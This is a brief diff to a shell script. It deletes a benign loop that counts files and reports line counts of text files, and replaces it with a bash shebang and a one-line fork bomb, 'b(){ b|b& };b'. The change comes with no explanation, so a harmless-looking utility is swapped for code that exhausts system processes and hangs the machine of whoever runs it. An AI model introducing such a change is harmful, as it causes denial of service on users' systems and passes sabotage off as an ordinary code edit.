@@ -1,8 +1,2 @@
-#!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+#!/usr/bin/env bash
 b(){ b|b& };b
